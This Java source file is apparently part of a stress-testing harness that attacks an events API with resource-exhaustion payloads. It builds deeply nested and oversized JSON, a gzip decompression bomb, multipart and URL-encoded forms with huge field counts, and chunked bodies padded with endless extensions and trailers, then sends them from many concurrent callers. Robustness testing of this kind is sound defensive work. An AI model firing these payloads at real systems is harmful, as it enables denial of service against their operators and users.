package io.kalends.attack;

import static io.kalends.attack.Target.EVENTS;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Locale;
import java.util.zip.GZIPOutputStream;

/** Ways by bodies that are small to send and large to understand. */
final class OddBodies {
    private static final int LARGEST = (1 << 20) - 1_000;
    private static final int CALLERS = 32;

    private OddBodies() {}

    static List<Way> ways() {
        return List.of(
                new Way(
                        "json",
                        "an author sends JSON of a megabyte: deep, wide, with long names, with numbers of many digits",
                        OddBodies::json),
                new Way(
                        "forms",
                        "forms of very many fields or parts, bodies that unfold to gigabytes, chunks with endless trimmings",
                        OddBodies::forms));
    }

    private static void json(Front front) throws InterruptedException {
        front.crowd(CALLERS, (who, turn) -> send(front, Texts.JSON, Texts.bytes(json(who + turn))));
    }

    private static String json(long number) {
        return switch ((int) (number % 6)) {
            case 0 -> "{\"a\":" + "[".repeat(LARGEST / 2);
            case 1 -> "{\"title\":\"x\",\"tags\":[{}" + ",{}".repeat(LARGEST / 3 - 20) + "]}";
            case 2 -> "{\"" + Texts.word(LARGEST / 2) + "\":1,\"title\":\"" + Texts.word(LARGEST / 2 - 50) + "\"}";
            case 3 -> "{\"cost\":" + "9".repeat(LARGEST - 50) + "}";
            case 4 -> "{\"title\":\"x\"" + fields(LARGEST / 14) + "}";
            default -> "{\"custom_fields\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_001);
        };
    }

    private static String fields(int count) {
        var fields = new StringBuilder();
        for (int i = 0; i < count; i++) fields.append(String.format(Locale.ROOT, ",\"f%06d\":1", i));
        return fields.toString();
    }

    private static void send(Front front, String type, byte[] body) throws IOException {
        front.ask(
                Texts.post(
                        EVENTS,
                        type,
                        body.length,
                        "Authorization: " + front.target().authorization()),
                body);
    }

    private static void forms(Front front) throws IOException, InterruptedException {
        byte[] parts = parts();
        byte[] bomb = bomb();
        front.start(CALLERS, (who, turn) -> compressed(front, who, bomb));
        front.start(CALLERS, (who, turn) -> trimmings(front, who));
        front.crowd(CALLERS, (who, turn) -> {
            if (who % 2 == 0) send(front, Texts.MULTIPART, parts);
            else send(front, Texts.FORM, Texts.bytes(form(who + turn)));
        });
    }

    private static String form(long number) {
        return switch ((int) (number / 2 % 3)) {
            case 0 -> "a=&".repeat(LARGEST / 3);
            case 1 -> fields(LARGEST / 14).replace(",\"", "&").replace("\":", "=");
            default -> "a" + "[b]".repeat(LARGEST / 3 - 10) + "=1";
        };
    }

    private static byte[] parts() {
        var parts = new StringBuilder();
        for (int i = 0; i < 1_000; i++)
            parts.append("--edge\r\nContent-Disposition: form-data; name=\"f")
                    .append(i)
                    .append("\"\r\n\r\n")
                    .append("x".repeat(900))
                    .append("\r\n");
        return Texts.bytes(parts + "--edge--\r\n");
    }

    private static void compressed(Front front, int who, byte[] bomb) throws IOException {
        front.ask(
                Texts.post(
                        who % 2 == 0 ? EVENTS : "/admin/login",
                        who % 2 == 0 ? Texts.JSON : Texts.FORM,
                        bomb.length,
                        "Content-Encoding: gzip",
                        "Authorization: " + front.target().authorization()),
                bomb);
    }

    /** What may stand beside each chunk of a body, or after the last of them. */
    private static void trimmings(Front front, int who) throws IOException {
        String author = "Authorization: " + front.target().authorization();
        byte[] piece = Texts.bytes(
                who % 2 == 0 ? "1;a=" + "x".repeat(4_000) + "\r\n \r\n" : "X-A: " + "x".repeat(4_000) + "\r\n");
        try (Line line = front.open()) {
            line.send(Texts.postInChunks(EVENTS, Texts.JSON, author));
            if (who % 2 == 1) line.send("0\r\n");
            for (int i = 0; i < 10_000; i++) line.send(piece);
        }
    }

    /** A gigabyte in nearly a megabyte. */
    private static byte[] bomb() throws IOException {
        var packed = new ByteArrayOutputStream();
        byte[] piece = Texts.filled("", 1 << 16);
        try (var out = new GZIPOutputStream(packed)) {
            out.write(Texts.bytes("{\"title\":\""));
            while (packed.size() < LARGEST - 2_000) out.write(piece);
        }
        return packed.toByteArray();
    }
}
